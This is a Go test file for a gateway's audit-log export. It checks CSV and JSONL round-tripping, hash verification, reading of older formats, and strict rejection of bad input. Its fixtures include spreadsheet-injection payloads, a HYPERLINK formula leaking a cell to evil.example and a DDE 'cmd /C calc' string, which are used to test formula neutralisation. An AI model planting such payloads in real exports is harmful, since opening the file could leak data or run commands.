package audit_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"io"
	"reflect"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/sallyport/sallyport/gateway"
	"github.com/sallyport/sallyport/gateway/audit"
	"github.com/sallyport/sallyport/gateway/sqlite"
)

// awkward returns records whose text is hard to carry through CSV and
// JSON: separators, quotes, line ends, spreadsheet formulas, unicode,
// empty and quoted lists, and a line far longer than any buffer.
func awkward() []*gateway.AuditRecord {
	t := base
	recs := []*gateway.AuditRecord{
		{Time: t, Principal: "alice", Target: "a,b", Error: `He said "no", then left`, Reasons: []string{}, Rules: nil},
		{Time: t, ClientName: "multi\nline", Error: "line one\r\nline two", Reasons: []string{"first\rsecond", "third\nfourth"}},
		{Time: t, Error: "lone\rCR", Target: "trailing CR\r", Backend: "\r\nleading CRLF"},
		{Time: t, Principal: `=HYPERLINK("http://evil.example/?"&A1,"click")`, Backend: "+cmd|' /C calc'!A0", Target: "-2+3",
			Method: "@SUM(A1:A9)", Session: "\tTAB first", ClientVersion: "\rCR first", PolicyVersion: "'quoted already",
			Error: "''two quotes", Decision: "=deny", Outcome: "-", Transport: "+", TokenID: "@"},
		{Time: t, Principal: "Zoë 🚀 日本語", Target: "file:///srv/données/ñ.txt", Error: "line\u2028separator\u2029para",
			ClientName: "\"quoted at start", ClientVersion: "'\"quote then double quote", Session: " leading space"},
		{Time: t, Reasons: []string{`rule "x" says no`, "a,b", "=1+1", ""}, Rules: []string{`"`, "'", "\r\n"}},
		{Time: t, Arguments: `{"q":"=1+2","s":"a\"b,c\r\n","u":"é"}`, MessageID: `"req-\"7\""`},
		{Time: t, MessageID: "-5", ErrorCode: -32603, Error: "-32603", Ref: 3, LatencyMicros: 1234567, Bytes: 99, Skipped: 42},
		{Time: t, Arguments: `{"blob":"` + strings.Repeat("x", 200<<10) + `"}`},
		{Time: t.Add(time.Microsecond)}, // nothing but a time
		{Time: t, PolicyInput: `{"kind":"request","findings":[]}`,
			Findings: `[{"detector":"EMAIL_ADDRESS","path":"params.arguments[\"=to\"]","offset":0,"length":17,"action":"redact"}]`},
		{Time: t, Approval: "apr_00112233445566778899aabbccddeeff", Method: "tools/call", Target: "delete_repo"},
		{Time: t, Approval: "=apr,\"x\"\r\n"}, // formula, separator, quotes and a CR in the approval cell
	}
	for i, r := range recs {
		r.Time = r.Time.Add(time.Duration(i) * time.Second)
		if r.Direction == "" {
			r.Direction = "client_to_backend"
		}
	}
	return recs
}

// exportAll writes every row of log in format and returns the bytes.
func exportAll(t testing.TB, log gateway.AuditLog, f gateway.AuditFilter, format string) []byte {
	t.Helper()
	var buf bytes.Buffer
	w, err := audit.NewWriter(&buf, format)
	if err != nil {
		t.Fatalf("NewWriter: %v", err)
	}
	if err := log.Scan(context.Background(), f, w.Write); err != nil {
		t.Fatalf("scan: %v", err)
	}
	if err := w.Flush(); err != nil {
		t.Fatalf("flush: %v", err)
	}
	return buf.Bytes()
}

// readAll reads an export back into records.
func readAll(t testing.TB, data []byte) []gateway.AuditRecord {
	t.Helper()
	var out []gateway.AuditRecord
	if err := audit.ReadExport(bytes.NewReader(data), func(r *gateway.AuditRecord) error {
		out = append(out, clone(r))
		return nil
	}); err != nil {
		t.Fatalf("ReadExport: %v", err)
	}
	return out
}

func TestExportRoundTrip(t *testing.T) {
	db, _ := openDB(t, sqlite.Options{AuditKey: testKey, CheckpointEvery: 3})
	appendAll(t, db.Audit(), awkward(), 100)
	want := rows(t, db.Audit(), gateway.AuditFilter{})
	if len(want) != len(awkward()) {
		t.Fatalf("stored %d rows, want %d", len(want), len(awkward()))
	}
	for _, format := range []string{audit.FormatCSV, audit.FormatJSONL} {
		t.Run(format+" / every row reads back equal and still verifies with the key", func(t *testing.T) {
			data := exportAll(t, db.Audit(), gateway.AuditFilter{}, format)
			got := readAll(t, data)
			if len(got) != len(want) {
				t.Fatalf("read %d rows, want %d", len(got), len(want))
			}
			v := &audit.Verifier{Key: testKey}
			v.Start(gateway.AuditAnchor{})
			for i := range want {
				if !reflect.DeepEqual(got[i], want[i]) {
					t.Errorf("row %d changed in the round trip:\n got %q\nwant %q", want[i].Seq, fields(got[i]), fields(want[i]))
				}
				if h := got[i].ComputeHash(); h != want[i].Hash {
					t.Errorf("row %d: hash of the row read back %s, want %s", want[i].Seq, h, want[i].Hash)
				}
				v.Check(&got[i])
			}
			if rep := v.Report(); !rep.OK() || rep.Rows != int64(len(want)) || rep.Checkpoints != int64(len(want)/3) {
				t.Errorf("verifying the export: %+v", rep)
			}
		})
	}
}

// TestReadExportOfEarlierVersions reads CSV exports written before the
// policy_input (migration 0002), findings (0003) and approval (0004)
// columns existed: their rows read back and verify.
func TestReadExportOfEarlierVersions(t *testing.T) {
	db, _ := openDB(t, sqlite.Options{AuditKey: testKey, CheckpointEvery: 3})
	var recs []*gateway.AuditRecord
	for _, r := range awkward() {
		r.PolicyInput, r.Findings, r.Approval = "", "", ""
		recs = append(recs, r)
	}
	appendAll(t, db.Audit(), recs, 100)
	want := rows(t, db.Audit(), gateway.AuditFilter{})
	data := exportAll(t, db.Audit(), gateway.AuditFilter{}, audit.FormatCSV)
	all, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, keep := range []int{len(audit.Columns) - 1, len(audit.Columns) - 2, len(audit.Columns) - 3} {
		var b bytes.Buffer
		w := csv.NewWriter(&b)
		for _, rec := range all {
			w.Write(rec[:keep])
		}
		w.Flush()
		got := readAll(t, b.Bytes())
		v := &audit.Verifier{Key: testKey}
		v.Start(gateway.AuditAnchor{})
		for i := range got {
			if !reflect.DeepEqual(got[i], want[i]) {
				t.Errorf("%d columns: row %d changed:\n got %q\nwant %q", keep, want[i].Seq, fields(got[i]), fields(want[i]))
			}
			v.Check(&got[i])
		}
		if rep := v.Report(); !rep.OK() || rep.Rows != int64(len(want)) {
			t.Errorf("%d columns: verifying: %+v", keep, rep)
		}
	}
	// Fewer columns than the first format had is not an export.
	var b bytes.Buffer
	w := csv.NewWriter(&b)
	for _, rec := range all {
		w.Write(rec[:29])
	}
	w.Flush()
	if err := audit.ReadExport(&b, func(*gateway.AuditRecord) error { return nil }); err == nil {
		t.Error("a header without mac was accepted")
	}
}

// TestReadJSONLExportOfEarlierVersions reads JSONL exports written before
// the policy_input, findings and approval keys existed: their rows read
// back and verify.
func TestReadJSONLExportOfEarlierVersions(t *testing.T) {
	db, _ := openDB(t, sqlite.Options{AuditKey: testKey, CheckpointEvery: 3})
	var recs []*gateway.AuditRecord
	for _, r := range awkward() {
		r.PolicyInput, r.Findings, r.Approval = "", "", ""
		recs = append(recs, r)
	}
	appendAll(t, db.Audit(), recs, 100)
	want := rows(t, db.Audit(), gateway.AuditFilter{})
	data := exportAll(t, db.Audit(), gateway.AuditFilter{}, audit.FormatJSONL)
	for _, drop := range [][]string{{"approval"}, {"findings", "approval"}, {"policy_input", "findings", "approval"}} {
		t.Run("without "+strings.Join(drop, ", "), func(t *testing.T) {
			old := string(data)
			for _, k := range drop {
				n := strings.Count(old, `,"`+k+`":""`)
				old = strings.ReplaceAll(old, `,"`+k+`":""`, "")
				if n != len(want) {
					t.Fatalf("dropped key %s from %d lines, want every one of %d", k, n, len(want))
				}
			}
			got := readAll(t, []byte(old))
			v := &audit.Verifier{Key: testKey}
			v.Start(gateway.AuditAnchor{})
			for i := range got {
				if !reflect.DeepEqual(got[i], want[i]) {
					t.Errorf("row %d changed:\n got %q\nwant %q", want[i].Seq, fields(got[i]), fields(want[i]))
				}
				v.Check(&got[i])
			}
			if rep := v.Report(); !rep.OK() || rep.Rows != int64(len(want)) {
				t.Errorf("verifying: %+v", rep)
			}
		})
	}
}

// fields lists a record's text fields for a readable diff.
func fields(r gateway.AuditRecord) []string {
	var out []string
	v := reflect.ValueOf(r)
	for i := range v.NumField() {
		f := v.Field(i)
		s := ""
		switch f.Kind() {
		case reflect.String:
			s = f.String()
			if len(s) > 80 {
				s = s[:80] + "…"
			}
		case reflect.Slice:
			s = strings.Join(f.Interface().([]string), "|")
		default:
			continue
		}
		if s != "" {
			out = append(out, v.Type().Field(i).Name+"="+s)
		}
	}
	return out
}

func TestExportCSVIsSafeAndStrict(t *testing.T) {
	db, _ := openDB(t, sqlite.Options{})
	appendAll(t, db.Audit(), awkward(), 100)
	appendAll(t, db.Audit(), synthetic(50), 100)
	data := exportAll(t, db.Audit(), gateway.AuditFilter{}, audit.FormatCSV)

	t.Run("every line ends with CRLF", func(t *testing.T) {
		if !bytes.HasSuffix(data, []byte("\r\n")) {
			t.Error("the export does not end with CRLF")
		}
		for i, c := range data {
			if c == '\n' && (i == 0 || data[i-1] != '\r') {
				t.Fatalf("a bare LF at byte %d: %q", i, data[max(0, i-20):i+1])
			}
		}
	})
	t.Run("it parses in strict mode with the header and column count of audit.Columns", func(t *testing.T) {
		cr := csv.NewReader(bytes.NewReader(data))
		cr.FieldsPerRecord = len(audit.Columns)
		recs, err := cr.ReadAll()
		if err != nil {
			t.Fatalf("strict CSV parse: %v", err)
		}
		if !slices.Equal(recs[0], audit.Columns) {
			t.Errorf("header %q, want %q", recs[0], audit.Columns)
		}
		if len(recs) != 1+len(awkward())+50 {
			t.Errorf("%d records, want the header and %d rows", len(recs), len(awkward())+50)
		}
	})
	t.Run("no text cell can be taken for a formula", func(t *testing.T) {
		cr := csv.NewReader(bytes.NewReader(data))
		recs, err := cr.ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		numeric := map[string]bool{"seq": true, "ref": true, "error_code": true, "latency_us": true, "bytes": true, "skipped": true}
		for _, rec := range recs[1:] {
			for i, cell := range rec {
				col := audit.Columns[i]
				if numeric[col] {
					if _, err := strconv.ParseInt(cell, 10, 64); err != nil {
						t.Errorf("row %s: numeric column %s holds %q", rec[0], col, cell)
					}
					continue
				}
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("row %s: column %s starts with %q: %q", rec[0], col, cell[0], cell)
				}
			}
		}
	})
}

func TestExportJSONL(t *testing.T) {
	db, _ := openDB(t, sqlite.Options{})
	appendAll(t, db.Audit(), awkward(), 100)
	data := exportAll(t, db.Audit(), gateway.AuditFilter{}, audit.FormatJSONL)
	lines := strings.SplitAfter(string(data), "\n")
	if lines[len(lines)-1] != "" {
		t.Errorf("the export does not end with a newline")
	}
	lines = lines[:len(lines)-1]
	if len(lines) != len(awkward()) {
		t.Fatalf("%d lines, want one per row (%d): a value broke a line", len(lines), len(awkward()))
	}
	for i, line := range lines {
		dec := json.NewDecoder(strings.NewReader(line))
		if tok, err := dec.Token(); err != nil || tok != json.Delim('{') {
			t.Fatalf("line %d is not a JSON object: %v", i+1, err)
		}
		var keys []string
		for dec.More() {
			k, err := dec.Token()
			if err != nil {
				t.Fatalf("line %d: %v", i+1, err)
			}
			keys = append(keys, k.(string))
			var v json.RawMessage
			if err := dec.Decode(&v); err != nil {
				t.Fatalf("line %d: %v", i+1, err)
			}
		}
		if !slices.Equal(keys, audit.Columns) {
			t.Errorf("line %d has keys %q, want audit.Columns in order", i+1, keys)
		}
	}
}

func TestNewWriterFormats(t *testing.T) {
	tests := []struct {
		name, format, contentType string
		wantErr                   bool
	}{
		{"csv is text/csv", audit.FormatCSV, "text/csv; charset=utf-8", false},
		{"jsonl is application/jsonl", audit.FormatJSONL, "application/jsonl; charset=utf-8", false},
		{"an unknown format is an error", "xml", "", true},
		{"the format name is case-sensitive", "CSV", "", true},
		{"an empty format is an error", "", "", true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			w, err := audit.NewWriter(io.Discard, tt.format)
			if (err != nil) != tt.wantErr {
				t.Fatalf("NewWriter(%q) error %v, want error %v", tt.format, err, tt.wantErr)
			}
			if err != nil {
				if w != nil || !strings.Contains(err.Error(), tt.format) {
					t.Errorf("NewWriter(%q) = %v, %v: want no writer and an error naming the format", tt.format, w, err)
				}
				return
			}
			if got := audit.ContentType(tt.format); got != tt.contentType {
				t.Errorf("ContentType(%q) = %q, want %q", tt.format, got, tt.contentType)
			}
		})
	}
	t.Run("an empty csv export is the header alone", func(t *testing.T) {
		var buf bytes.Buffer
		w, _ := audit.NewWriter(&buf, audit.FormatCSV)
		if err := w.Flush(); err != nil {
			t.Fatal(err)
		}
		if want := strings.Join(audit.Columns, ",") + "\r\n"; buf.String() != want || w.Rows() != 0 {
			t.Errorf("got %q (%d rows), want %q", buf.String(), w.Rows(), want)
		}
		if err := audit.ReadExport(&buf, func(*gateway.AuditRecord) error { t.Error("a row in an empty export"); return nil }); err != nil {
			t.Errorf("reading an empty csv export: %v", err)
		}
	})
	t.Run("Rows counts the rows written", func(t *testing.T) {
		w, _ := audit.NewWriter(io.Discard, audit.FormatJSONL)
		for _, r := range synthetic(7) {
			if err := w.Write(r); err != nil {
				t.Fatal(err)
			}
		}
		if w.Rows() != 7 {
			t.Errorf("Rows() = %d, want 7", w.Rows())
		}
	})
	t.Run("a failing destination is reported by Flush", func(t *testing.T) {
		for _, format := range []string{audit.FormatCSV, audit.FormatJSONL} {
			w, _ := audit.NewWriter(failWriter{}, format)
			w.Write(synthetic(1)[0])
			if err := w.Flush(); err == nil {
				t.Errorf("%s: Flush to a failing writer returned nil", format)
			}
		}
	})
}

type failWriter struct{}

func (failWriter) Write([]byte) (int, error) { return 0, errors.New("disk full") }

func TestReadExportRejects(t *testing.T) {
	db, _ := openDB(t, sqlite.Options{})
	appendAll(t, db.Audit(), synthetic(3), 10)
	jsonl := string(exportAll(t, db.Audit(), gateway.AuditFilter{}, audit.FormatJSONL))
	csvText := string(exportAll(t, db.Audit(), gateway.AuditFilter{}, audit.FormatCSV))
	csvLines := strings.SplitAfter(csvText, "\r\n")
	tests := []struct {
		name, input string
		wantErr     string // "" for success
		wantRows    int
	}{
		{"an empty input is an error", "", "empty", 0},
		{"a csv header naming other columns is an error", strings.Replace(csvText, "seq,", "id,", 1), "header", 0},
		{"a csv row with a missing field is an error", csvLines[0] + csvLines[1][:strings.LastIndex(csvLines[1], ",")] + "\r\n", "wrong number of fields", 0},
		{"a csv row with a bad number is an error", csvLines[0] + strings.Replace(csvLines[1], "1,", "one,", 1), "seq", 0},
		{"a csv row with a bad time is an error", csvLines[0] + strings.Replace(csvLines[1], "2026-03-01T", "2026-03-01 ", 1), "time", 0},
		{"a csv row with a bare quote is an error (strict mode)", csvLines[0] + strings.Replace(csvLines[1], "alice", `al"ice`, 1), "quote", 0},
		{"a jsonl line that is not JSON is an error naming the line", jsonl + "{not json}\n", "line 4", 3},
		{"a jsonl line with a bad time is an error", strings.Replace(jsonl, `"time":"2026-03-01T12:00:00.000000Z"`, `"time":"yesterday"`, 1), "line 1: time", 0},
		{"a jsonl line with a wrongly typed field is an error", strings.Replace(jsonl, `"seq":2`, `"seq":"2"`, 1), "line 2", 1},
		{"blank lines in jsonl are skipped", strings.ReplaceAll(jsonl, "\n", "\n\n"), "", 3},
		{"a last jsonl line without newline is read", strings.TrimSuffix(jsonl, "\n"), "", 3},
		{"a jsonl export with CRLF line ends is read", strings.ReplaceAll(jsonl, "\n", "\r\n"), "", 3},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			n := 0
			err := audit.ReadExport(strings.NewReader(tt.input), func(r *gateway.AuditRecord) error {
				n++
				if r.Hash != r.ComputeHash() {
					t.Errorf("row %d read back with a hash that does not match", r.Seq)
				}
				return nil
			})
			switch {
			case tt.wantErr == "" && err != nil:
				t.Errorf("ReadExport: %v", err)
			case tt.wantErr != "" && (err == nil || !strings.Contains(err.Error(), tt.wantErr)):
				t.Errorf("ReadExport error %v, want one mentioning %q", err, tt.wantErr)
			}
			if n != tt.wantRows {
				t.Errorf("read %d rows, want %d", n, tt.wantRows)
			}
		})
	}
	t.Run("an error from fn stops the read and is returned", func(t *testing.T) {
		for _, data := range []string{jsonl, csvText} {
			stop := errors.New("stop")
			n := 0
			err := audit.ReadExport(strings.NewReader(data), func(*gateway.AuditRecord) error { n++; return stop })
			if !errors.Is(err, stop) || n != 1 {
				t.Errorf("ReadExport returned %v after %d rows, want the stop error after 1", err, n)
			}
		}
	})
}
